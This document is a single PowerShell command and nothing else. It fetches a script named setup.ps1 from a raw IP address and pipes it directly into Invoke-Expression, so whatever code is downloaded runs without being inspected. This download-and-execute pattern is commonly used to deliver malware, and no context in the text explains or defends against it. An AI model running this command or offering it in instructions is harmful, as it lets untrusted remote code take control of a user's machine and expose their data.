iwr http://198.51.100.77/setup.ps1 -UseBasicParsing | iex
